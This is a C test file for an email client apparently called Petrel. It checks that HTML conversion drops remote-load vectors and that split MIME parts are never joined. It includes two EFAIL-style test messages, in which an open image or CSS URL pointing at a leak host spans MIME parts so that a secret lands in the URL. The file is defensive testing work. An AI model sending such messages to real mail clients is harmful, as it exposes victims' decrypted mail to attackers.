/* test-html-vectors.c
 *
 * Copyright 2026 The Petrel authors
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

/*
 * The engine side of the remote-content matrix (issue #10): every remote-load vector of
 * tests/fuzz/html-vectors.h (img, srcset, CSS url/@import/@font-face, link prefetch, iframe and
 * srcdoc, object, embed, video poster, meta refresh, forms, svg, base href, script, javascript:
 * links, file: URLs, VML, ...) goes through the HTML → text conversion that `show`, snippets,
 * quoting and search use: no resource URL may come out. Then EFAIL-style messages, whose HTML
 * is split across MIME parts around another part: the engine must never join the parts into one
 * HTML document (the UI renders PetrelMimeBody.html, which is the first HTML part alone), and
 * no URL may reach the text. The WebKit side (no request to a loopback canary until remote
 * content is allowed) is tests/ui/test-remote-content.py.
 */

#include "config.h"

#include <string.h>

#include <glib.h>

#include "../fuzz/html-vectors.h"
#include "mime/petrel-mime-html.h"
#include "mime/petrel-mime-text.h"
#include "petrel-engine.h"

static char *
fill (const char *vector)
{
  const char *hole = strstr (vector, "%s");

  if (hole == NULL)
    return g_strdup (vector);
  return g_strdup_printf ("%.*s%s", (int) (hole - vector), vector, hole + 2);
}

static void
test_vectors_one_by_one (void)
{
  for (guint i = 0; i < G_N_ELEMENTS (html_vectors); i++)
    {
      g_autofree char *vector = fill (html_vectors[i]);
      g_autofree char *doc = g_strdup_printf ("<html><body><p>before</p>%s<p>after</p>"
                                              "</body></html>", vector);
      g_autofree char *text = petrel_mime_html_to_text (doc, -1);

      g_test_message ("vector %u: %s", i, vector);
      g_assert_nonnull (text);
      g_assert_null (strstr (text, HTML_LEAK_MARK));
      /* The text around the vector survives: the vector did not swallow the document. */
      g_assert_nonnull (strstr (text, "before"));
      if (strstr (vector, "<plaintext") == NULL && strstr (vector, "<frameset") == NULL)
        g_assert_nonnull (strstr (text, "after"));
    }
}

static void
test_vectors_together (void)
{
  g_autoptr(GString) doc = g_string_new ("<html><head>");
  g_autofree char *text = NULL;

  for (guint i = 0; i < G_N_ELEMENTS (html_vectors); i++)
    {
      g_autofree char *vector = fill (html_vectors[i]);

      g_string_append_printf (doc, "%s\n<p>para %u</p>\n", vector, i);
    }
  g_string_append (doc, "</body></html>");
  text = petrel_mime_html_to_text (doc->str, doc->len);
  g_assert_null (strstr (text, HTML_LEAK_MARK));

  /* For build-aux/reliability-report: the vectors and the two EFAIL messages. */
  g_test_message ("figures: %u remote-load vectors and 2 EFAIL-style messages, 0 URLs in the "
                  "text", (guint) G_N_ELEMENTS (html_vectors));
  g_test_message ("figures-json: {\"scenarios\": %u, \"test\": \"html-vectors\"}",
                  (guint) G_N_ELEMENTS (html_vectors) + 2);
}

/* An EFAIL "direct exfiltration" shape: an open <img src=" in one HTML part, the secret in the
 * next part, the closing quote in a third. Rendering the parts joined would send the secret to
 * the attacker's server as part of the URL. */
static const char efail_mixed[] =
  "From: attacker@example.org\r\n"
  "To: victim@example.org\r\n"
  "Subject: efail\r\n"
  "MIME-Version: 1.0\r\n"
  "Content-Type: multipart/mixed; boundary=\"B\"\r\n"
  "\r\n"
  "--B\r\n"
  "Content-Type: text/html\r\n"
  "\r\n"
  "<html><body><img src=\"" HTML_LEAK_URL "/?\r\n"
  "--B\r\n"
  "Content-Type: text/plain\r\n"
  "\r\n"
  "SECRET-PLAINTEXT\r\n"
  "--B\r\n"
  "Content-Type: text/html\r\n"
  "\r\n"
  "\"></body></html>\r\n"
  "--B--\r\n";

/* The same split inside multipart/alternative → multipart/related, and with the secret as an
 * (originally encrypted) message/rfc822 part. */
static const char efail_nested[] =
  "From: attacker@example.org\r\n"
  "Subject: efail 2\r\n"
  "MIME-Version: 1.0\r\n"
  "Content-Type: multipart/alternative; boundary=\"A\"\r\n"
  "\r\n"
  "--A\r\n"
  "Content-Type: multipart/related; boundary=\"R\"\r\n"
  "\r\n"
  "--R\r\n"
  "Content-Type: text/html\r\n"
  "\r\n"
  "<style>body{background:url('" HTML_LEAK_URL "/?\r\n"
  "--R\r\n"
  "Content-Type: message/rfc822\r\n"
  "\r\n"
  "Subject: inner\r\n"
  "\r\n"
  "SECRET-PLAINTEXT\r\n"
  "--R\r\n"
  "Content-Type: text/html\r\n"
  "\r\n"
  "')}</style>\r\n"
  "--R--\r\n"
  "--A--\r\n";

static void
check_efail (const char *message)
{
  g_autoptr(PetrelMimeBody) body = petrel_mime_body_new_from_data (message, strlen (message));

  g_assert_nonnull (body);
  /* What the UI renders is one part's HTML, never the parts joined. */
  g_assert_nonnull (body->html);
  g_assert_null (strstr (body->html, "SECRET-PLAINTEXT"));
  g_assert_null (strstr (body->html, "\">"));
  g_assert_null (strstr (body->html, "')}"));
  /* And no URL reaches the text. */
  g_assert_null (strstr (body->text, HTML_LEAK_MARK));
  g_assert_null (strstr (body->snippet, HTML_LEAK_MARK));
}

static void
test_efail_mixed (void)
{
  check_efail (efail_mixed);
}

static void
test_efail_nested (void)
{
  check_efail (efail_nested);
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);
  petrel_engine_init ();

  g_test_add_func ("/petrel/faults/html/vectors-one-by-one", test_vectors_one_by_one);
  g_test_add_func ("/petrel/faults/html/vectors-together", test_vectors_together);
  g_test_add_func ("/petrel/faults/html/efail-mixed", test_efail_mixed);
  g_test_add_func ("/petrel/faults/html/efail-nested", test_efail_nested);

  return g_test_run ();
}
